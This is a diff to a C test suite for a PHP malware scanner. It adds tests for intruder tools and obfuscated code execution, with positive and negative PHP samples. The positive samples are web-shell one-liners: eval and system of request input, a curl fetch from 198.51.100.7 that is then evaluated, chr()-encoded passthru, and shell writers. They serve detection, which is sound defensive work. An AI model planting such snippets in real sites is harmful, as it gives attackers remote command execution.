@@ -560,13 +560,19 @@ test_yara_and_verdict(void)
 	T_OK(analyse_buf(a, (const uint8_t *)"<?php @eval($_POST['x']); ?>", 29, "a.php", &r) == 0);
 	T_EQ_INT(r.verdict, ANALYSE_MALICIOUS);
 	T_OK(r.n >= 1 && r.f[0].conf == 2 && r.f[0].line == 1);
-	/* a rule sees code written inside a string; phpscan does not */
+	/* code written inside a string: a rule sees it, and phpscan reads the page it holds */
 	{
 		static const char s[] = "<?php $p = '<?php system($_GET[\"c\"]); ?>'; file_put_contents('x.txt', $p);";
+		unsigned rule = 0, own = 0, k;
 
 		T_OK(analyse_buf(a, (const uint8_t *)s, sizeof(s) - 1, "d.php", &r) == 0);
 		T_EQ_INT(r.verdict, ANALYSE_MALICIOUS);
-		T_EQ_STR(r.f[0].rule, "wsid_input_exec_text");
+		for (k = 0; k < r.n; k++) {
+			rule += strcmp(r.f[k].rule, "wsid_input_exec_text") == 0 && r.f[k].conf == 2;
+			own += strcmp(r.f[k].rule, "phpscan") == 0 && strcmp(r.f[k].cls, "hidden-php") == 0 &&
+			       r.f[k].conf == 2;
+		}
+		T_CHECK(rule == 1 && own == 1, "d.php: rule %u, phpscan %u", rule, own);
 	}
 	/* capabilities a page gives its visitor: a file manager, an upload page */
 	{
@@ -605,8 +611,11 @@ test_yara_and_verdict(void)
 			static const char local[] = "<?php\n$s = 'http://127.0.0.1:8080/';\necho file_get_contents($s);\n";
 
 			T_OK(analyse_buf(a, (const uint8_t *)lfm, sizeof(lfm) - 1, "l.php", &r) == 0);
-			T_CHECK(r.verdict == ANALYSE_SUSPICIOUS && strcmp(r.f[0].cls, "file-manager") == 0, "l.php: %d %s",
-				r.verdict, r.n ? r.f[0].cls : "-");
+			/* the rule's finding, beside phpscan's own (file-tool) */
+			for (i = 0; i < r.n && strcmp(r.f[i].cls, "file-manager") != 0; i++)
+				;
+			T_CHECK(r.verdict == ANALYSE_SUSPICIOUS && i < r.n, "l.php: %d %s", r.verdict,
+				r.n ? r.f[0].cls : "-");
 			T_OK(analyse_buf(a, (const uint8_t *)relay, sizeof(relay) - 1, "r.php", &r) == 0);
 			T_CHECK(r.verdict == ANALYSE_SUSPICIOUS && strcmp(r.f[0].cls, "remote-relay") == 0, "r.php: %d %s",
 				r.verdict, r.n ? r.f[0].cls : "-");
@@ -914,9 +923,190 @@ test_decoded(void)
 	}
 }
 
+/* tools an intruder leaves: capabilities of a page that stands alone */
+static void
+test_tools(void)
+{
+	/* commands: a page reading the request runs a variable */
+	T_HAS("x.php", "<?php\nif (isset($_GET['go'])) {\n  $cmd = trim(file_get_contents('job.txt'));\n  echo '<pre>';\n"
+		       "  passthru($cmd);\n}\n",
+	      PHPSCAN_COMMAND_PAGE, PHPSCAN_WEAK, 5);
+	/* ... the same inside an application's page */
+	T_CLEAN("x.php", "<?php\nrequire 'config.php';\nif (isset($_GET['go'])) {\n  $cmd = trim(file_get_contents('job.txt'));\n"
+			 "  passthru($cmd);\n}\n");
+	T_CLEAN("x.php", "<?php\nclass Job {\n  function run() { $cmd = $this->cmd; if (isset($_GET['go'])) passthru($cmd); }\n}\n");
+	/* a form, no request read (register_globals), one runner after another */
+	T_HAS("x.php",
+	      "<form method=post><input name=c></form>\n<?php\nfunction run($c) {\n  if (function_exists('shell_exec'))\n"
+	      "    return shell_exec($c);\n  return exec($c);\n}\necho run($c);\n",
+	      PHPSCAN_COMMAND_PAGE, PHPSCAN_WEAK, 5);
+	/* ... without a form, or a command-line script */
+	T_CLEAN("x.php", "<?php\nfunction run($c) {\n  if (function_exists('shell_exec'))\n    return shell_exec($c);\n"
+			 "  return exec($c);\n}\necho run('uptime');\n");
+	T_CLEAN("x.php", "<?php\nif (PHP_SAPI !== 'cli') exit;\necho '<form>';\n$c = 'tar czf backup.tgz ' . $dir;\n"
+			 "system($c);\n");
+
+	/* a database console: connects, queries, reads the request */
+	T_HAS("x.php", "<?php\n$l = mysqli_connect('localhost', 'root', 'secret');\n"
+		       "$r = mysqli_query($l, 'SHOW DATABASES');\nif (isset($_GET['db'])) echo htmlspecialchars($_GET['db']);\n",
+	      PHPSCAN_DB_TOOL, PHPSCAN_WEAK, 2);
+	T_CLEAN("x.php", "<?php\nnamespace App;\n$l = mysqli_connect('localhost', 'root', 'secret');\n"
+			 "$r = mysqli_query($l, 'SHOW DATABASES');\nif (isset($_GET['db'])) echo $_GET['db'];\n");
+
+	/* a file manager: lists directories, deletes from the request */
+	T_HAS("x.php", "<?php\n$d = isset($_GET['d']) ? $_GET['d'] : '.';\n$h = opendir($d);\n"
+		       "while (($f = readdir($h)) !== false) echo \"$f\\n\";\nif (isset($_POST['del'])) unlink($d . '/' . basename($_POST['del']));\n",
+	      PHPSCAN_FILE_TOOL, PHPSCAN_WEAK, 3);
+	/* ... a view an application includes ($this outside a class), or listing alone */
+	T_CLEAN("x.php", "<?php\n$d = $this->dir;\n$h = opendir($d);\nwhile (($f = readdir($h)) !== false) echo $f;\n"
+			 "if (isset($_POST['del'])) unlink($d . '/' . basename($_POST['del']));\n");
+	T_CLEAN("x.php", "<?php\n$d = 'img';\nforeach (scandir($d) as $f) echo $f;\necho (int)$_GET['page'];\n");
+	/* ... written for register_globals: a form, no request variable read, at the top level */
+	T_HAS("x.php", "<form method=post><input name=dir><input name=del></form>\n<?php\n$h = opendir($dir);\n"
+		       "while ($f = readdir($h)) echo \"$f<br>\";\nif ($del) unlink(\"$dir/$del\");\n",
+	      PHPSCAN_FILE_TOOL, PHPSCAN_WEAK, 3);
+	T_HAS("x.php", "<form method=post><input name=q></form>\n<?php\n$l = mysql_connect($host, $user, $pass);\n"
+		       "$r = mysql_query($q, $l);\n",
+	      PHPSCAN_DB_TOOL, PHPSCAN_WEAK, 3);
+	T_HAS("x.php", "<form enctype=\"multipart/form-data\" method=post><input type=file name=f></form>\n<?php\n"
+		       "if ($f) copy($f, \"$dir/$f_name\");\n",
+	      PHPSCAN_UPLOAD_TOOL, PHPSCAN_WEAK, 3);
+	T_HAS("x.php", "<form method=post><input name=host></form>\n<?php\nif ($host) $s = fsockopen($host, $port);\n",
+	      PHPSCAN_NET_TOOL, PHPSCAN_WEAK, 3);
+	/* ... not when the calls are in functions only, nor without a form, nor in a command-line script */
+	T_CLEAN("x.php", "<form method=post><input name=q></form>\n<?php\nfunction clean($dir) {\n  foreach (scandir($dir) as $f)\n"
+			 "    unlink(\"$dir/$f\");\n}\n");
+	T_CLEAN("x.php", "<?php\n$h = opendir($dir);\nwhile ($f = readdir($h)) unlink(\"$dir/$f\");\n");
+	T_CLEAN("x.php", "<?php\n$dir = $argv[1];\necho '<form>';\n$h = opendir($dir);\nwhile ($f = readdir($h)) unlink(\"$dir/$f\");\n");
+
+	/* sockets opened to where the request says */
+	T_HAS("x.php", "<?php\n$h = $_POST['h'];\n$fp = fsockopen($h, 80, $en, $es, 2);\necho $fp ? 'open' : 'closed';\n",
+	      PHPSCAN_NET_TOOL, PHPSCAN_WEAK, 3);
+	T_CLEAN("x.php", "<?php\ninclude 'lib.php';\n$fp = fsockopen('localhost', 80);\necho $_GET['x'] ? 1 : 0;\n");
+
+	/* no time limit, then mail, sockets or commands */
+	T_HAS("x.php", "<?php\nset_time_limit(0);\nignore_user_abort(true);\n$s = $_POST['subject'];\n"
+		       "foreach (file('list.txt') as $t) mail(trim($t), $s, 'hello');\n",
+	      PHPSCAN_LONG_RUNNER, PHPSCAN_WEAK, 2);
+	T_CLEAN("x.php", "<?php\nset_time_limit(30);\n$s = $_POST['subject'];\nmail('admin@example.org', $s, 'hello');\n");
+
+	/* errors silenced around a socket, no application around */
+	T_HAS("x.php", "<?php\n@error_reporting(0);\n$s = fsockopen('198.51.100.7', 80);\nfwrite($s, \"GET / HTTP/1.0\\r\\n\\r\\n\");\n",
+	      PHPSCAN_MUTED_RUNNER, PHPSCAN_WEAK, 2);
+	T_CLEAN("x.php", "<?php\nerror_reporting(E_ALL);\n$s = fsockopen('198.51.100.7', 80);\nfwrite($s, \"GET / HTTP/1.0\\r\\n\\r\\n\");\n");
+
+	/* an upload stored where the request says */
+	T_HAS("x.php", "<?php\nif (isset($_FILES['f']))\n  move_uploaded_file($_FILES['f']['tmp_name'], $_POST['dir'] . '/up.bin');\n",
+	      PHPSCAN_UPLOAD_TOOL, PHPSCAN_WEAK, 3);
+	T_CLEAN("x.php", "<?php\nif (isset($_FILES['f']))\n  move_uploaded_file($_FILES['f']['tmp_name'], 'uploads/' . md5($_FILES['f']['name']));\n");
+	/* mail to whom the request names */
+	T_HAS("x.php", "<?php\nif (isset($_POST['to']))\n  mail($_POST['to'], $_POST['s'], $_POST['b'], 'From: ' . $_POST['f']);\n",
+	      PHPSCAN_MAIL_RELAY, PHPSCAN_WEAK, 3);
+	T_CLEAN("x.php", "<?php\nif (isset($_POST['msg']))\n  mail('office@example.org', 'contact form', $_POST['msg']);\n");
+	T_CLEAN("x.php", "<?php\nrequire 'lib/init.php';\nmail($_POST['to'], 'Your invitation', $body);\n");
+	/* a page in a literal, written out: what it does counts */
+	T_HAS("x.php", "<?php\n$p = '<title>x</title><?php system(\"$_GET[c]\"); ?>';\n$f = fopen('../a.php', 'w');\n"
+		       "fwrite($f, $p);\n",
+	      PHPSCAN_HIDDEN_PHP, PHPSCAN_HIGH, 2);
+	T_HAS("x.php", "<?php\nfile_put_contents('i.php', <<<'P'\n<?php @eval($_POST['k']);\nP\n);\n",
+	      PHPSCAN_HIDDEN_PHP, PHPSCAN_HIGH, 2);
+	/* an installer's configuration, a template that echoes */
+	T_CLEAN("x.php", "<?php\n$cfg = \"<?php\\n\\$db_host = '\" . addslashes($_POST['host']) . \"';\\n\";\n"
+			 "file_put_contents('config.php', $cfg);\n");
+	T_CLEAN("x.php", "<?php\n$tpl = '<p><?php echo htmlspecialchars($_GET[\\'q\\']); ?></p>';\necho $tpl;\n");
+	/* a native executable carried in a literal: hex of a PE, base64 of an ELF */
+	{
+		uint8_t bin[300];
+		char hex[2 * sizeof(bin) + 1], b64[4 * sizeof(bin) / 3 + 8], src[2048];
+		size_t i;
+
+		for (i = 0; i < sizeof(bin); i++)
+			bin[i] = (uint8_t)(i * 7 % 13);
+		memcpy(bin, "MZ\x90\0\3\0\0\0", 8);
+		for (i = 0; i < sizeof(bin); i++)
+			snprintf(hex + 2 * i, 3, "%02x", bin[i]);
+		snprintf(src, sizeof(src), "<?php\nfunction dll() {\n  return \"0x%s\";\n}\n", hex);
+		T_HAS("x.php", src, PHPSCAN_EMBEDDED_BINARY, PHPSCAN_WEAK, 3);
+		memcpy(bin, "\x7f" "ELF\2\1\1\0", 8);
+		b64enc(bin, sizeof(bin), b64);
+		snprintf(src, sizeof(src), "<?php\n$bc = '%s';\n", b64);
+		T_HAS("x.php", src, PHPSCAN_EMBEDDED_BINARY, PHPSCAN_WEAK, 2);
+		/* an image, a hex table of other bytes: data */
+		memcpy(bin, "\x89PNG\r\n\x1a\n", 8);
+		b64enc(bin, sizeof(bin), b64);
+		snprintf(src, sizeof(src), "<?php\n$img = '%s';\n", b64);
+		T_CLEAN("x.php", src);
+		memcpy(bin, "MA\x90\0\3\0\0\0", 8);
+		for (i = 0; i < sizeof(bin); i++)
+			snprintf(hex + 2 * i, 3, "%02x", bin[i]);
+		snprintf(src, sizeof(src), "<?php\n$t = '%s';\n", hex);
+		T_CLEAN("x.php", src);
+	}
+	/* `class` in markup, a constant named Class, an anonymous class: no declaration */
+	T_HAS("x.php", "<div class=\"x\"><?php $o = new class { }; echo Foo::class; $h = $_POST['h'];\n"
+		       "$fp = fsockopen($h, 25);\n",
+	      PHPSCAN_NET_TOOL, PHPSCAN_WEAK, 2);
+}
+
 static void
 test_callbacks_more(void)
 {
+	/* a function named in chr() calls, given input */
+	T_HAS("x.php", "<?php\n$c = chr(112) . chr(97) . chr(115) . chr(115) . chr(116) . chr(104) . chr(114) . chr(117);\n"
+		       "$c($_GET['x']);\n",
+	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
+	T_CLEAN("x.php", "<?php\n$sep = chr(9);\necho implode($sep, array($_GET['a'], $_GET['b']));\n");
+	/* /e given as a literal of its own, or as mb_ereg_replace's option */
+	T_HAS("x.php", "<?php\npreg_replace('/(.*)/' . 'e', $_POST['c'], 'x');\n", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 2);
+	T_HAS("x.php", "<?php\nmb_ereg_replace('.*', $_REQUEST['c'], 'x', 'e');\n", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH,
+	      2);
+	T_CLEAN("x.php", "<?php\necho preg_replace('/' . preg_quote($_GET['q'], '/') . '/' . 'i', '<b>$0</b>', $text);\n"
+			 "echo mb_ereg_replace('\\s+', ' ', $_GET['t'], 'msr');\n");
+	/* HTTP authentication's user and password are the request's */
+	T_HAS("x.php", "<?php\nif ($_SERVER['PHP_AUTH_PW'] == 'k')\n  passthru($_SERVER['PHP_AUTH_USER']);\n",
+	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
+	T_CLEAN("x.php", "<?php\nif (md5($_SERVER['PHP_AUTH_PW']) !== $hash) { header('WWW-Authenticate: Basic'); exit; }\n"
+			 "echo htmlspecialchars($_SERVER['PHP_AUTH_USER']);\n");
+	/* a global the request set, used in a function (global, $GLOBALS['k']) */
+	T_HAS("x.php", "<?php\n$k = $_REQUEST['k'];\nfunction h() {\n  global $x, $k;\n  eval($k);\n}\nh();\n",
+	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 5);
+	T_HAS("x.php", "<?php\n$GLOBALS['f'] = $_POST['f'];\nfunction h($a) {\n  return $GLOBALS['f']($a);\n}\necho h('x');\n",
+	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 4);
+	T_CLEAN("x.php", "<?php\n$k = 'strtoupper';\n$q = $_GET['q'];\nfunction h() {\n  global $k;\n  return $k('x');\n}\n"
+			 "function g() {\n  return strlen($GLOBALS['q']);\n}\necho h(), g();\n");
+	/* assert() of a variable alone: code, when it holds a string */
+	T_HAS("x.php", "<?php\n$buf = '';\nfunction keep($b) {\n  global $buf;\n  $buf = $b;\n}\nob_start('keep');\n"
+		       "echo $_REQUEST['q'];\nob_end_flush();\n@assert($buf);\n",
+	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_WEAK, 10);
+	T_CLEAN("x.php", "<?php\n$r = db_server_info($c);\nassert($r instanceof stdClass);\nassert(is_array($list));\n"
+			 "function f($ok) {\n  assert($ok);\n}\nclass A { function g() { assert($this); } }\n");
+	/* $$a with $a naming a variable the request set */
+	T_HAS("x.php", "<?php\n$a = 'b';\n$b = $_GET['x'];\neval($$a);\n", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 4);
+	T_CLEAN("x.php", "<?php\n$a = 'b';\n$b = $_GET['x'];\necho htmlspecialchars($$a);\n$c = 'd';\n$d = 'x';\neval($$c);\n");
+	/* one runner after another from a list, given input */
+	T_HAS("x.php", "<?php\nforeach (array('shell_exec', 'passthru', 'system') as $fn)\n"
+		       "  if (function_exists($fn)) { echo $fn($_POST['c']); break; }\n",
+	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
+	/* ... given a fixed command; a list of string functions given input */
+	T_CLEAN("x.php", "<?php\nforeach (array('shell_exec', 'exec') as $fn)\n  if (function_exists($fn)) echo $fn('uptime');\n");
+	T_CLEAN("x.php", "<?php\n$m = array('trim', 'strtolower');\nforeach ($m as $f) $v = $f($_GET['v']);\n");
+	/* request input written to a file, then that file included */
+	T_HAS("x.php", "<?php\n$t = tempnam('/tmp', 'c');\nfile_put_contents($t, '<?php ' . $_POST['c']);\ninclude($t);\n",
+	      PHPSCAN_INCLUDE_OF_INPUT, PHPSCAN_WEAK, 4);
+	T_HAS("x.php", "<?php\n$f = fopen(dirname(__FILE__) . '/s.php', 'w');\nfwrite($f, $_REQUEST['d']);\nfclose($f);\n"
+		       "require dirname(__FILE__) . '/s.php';\n",
+	      PHPSCAN_INCLUDE_OF_INPUT, PHPSCAN_WEAK, 5);
+	/* ... another file included: the page's own header */
+	T_CLEAN("x.php", "<?php\nfile_put_contents('media/' . md5($_POST['n']) . '.jpg', base64_decode($_POST['img']));\n"
+			 "require 'top.php';\n");
+	T_CLEAN("x.php", "<?php\n$f = fopen('log.txt', 'a');\nfwrite($f, $_POST['msg']);\nrequire 'footer.php';\n");
+	/* what a URL fetched through curl returns is the sender's: run, it is input run */
+	T_HAS("x.php", "<?php\n$ch = curl_init('http://198.51.100.7/p.txt');\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n"
+		       "$code = curl_exec($ch);\neval('?>' . $code);\n",
+	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 5);
+	T_CLEAN("x.php", "<?php\n$ch = curl_init('https://api.example.org/v1/rates');\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n"
+			 "$data = json_decode(curl_exec($ch), true);\nfile_put_contents('cache/rates.json', json_encode($data));\n"
+			 "echo htmlspecialchars($data['eur']);\n");
 	T_HAS("x.php", "<?php preg_replace_callback('/.*/', $_POST['f'], 'x');", PHPSCAN_EXEC_OF_INPUT,
 	      PHPSCAN_HIGH, 1);
 	T_HAS("x.php", "<?php\nset_error_handler($_GET['h']);\n", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 2);
@@ -943,6 +1133,7 @@ main(void)
 	T_RUN(test_obfuscation);
 	T_RUN(test_decoded);
 	T_RUN(test_callbacks_more);
+	T_RUN(test_tools);
 	T_RUN(test_placement);
 	T_RUN(test_config_files);
 	T_RUN(test_writers);
